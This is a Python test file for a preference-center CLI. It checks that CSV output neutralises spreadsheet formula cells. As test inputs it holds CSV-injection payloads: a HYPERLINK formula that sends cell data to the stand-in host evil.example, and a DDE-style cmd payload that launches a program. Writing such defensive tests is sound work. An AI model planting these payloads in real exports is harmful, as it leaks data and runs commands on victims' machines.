"""CSV injection: `prefcenter check` output neutralises formula cells (echoed subjects, error texts)."""

from __future__ import annotations

import csv
import io
import uuid

from prefcenter.checks.cli import run_check


async def test_check_output_cells_never_reach_a_spreadsheet_as_formulas(api):
    external_id = f'=HYPERLINK("http://evil.example/?"&A1,"x")-{uuid.uuid4().hex[:8]}'
    subject = await api.new_subject(external_id=external_id)
    unknown = f"-1+cmd|'/c calc'!A0-{uuid.uuid4().hex[:8]}"
    source = io.StringIO()
    csv.writer(source).writerows([["subject"], [external_id], [unknown], ["@SUM(1+1)"], ["\t=1+1"]])
    source.seek(0)
    sink = io.StringIO()
    total, _allowed = await run_check(api.ctx, source, sink, "email", "offers")
    assert total == 4
    header, *rows = list(csv.reader(io.StringIO(sink.getvalue(), newline="")))
    assert header[0] == "subject"
    assert [row[0] for row in rows] == ["'" + external_id, "'" + unknown, "'@SUM(1+1)", "'=1+1"]
    assert rows[0][3] == subject["id"] and rows[1][2] == "unknown_subject"
    assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)
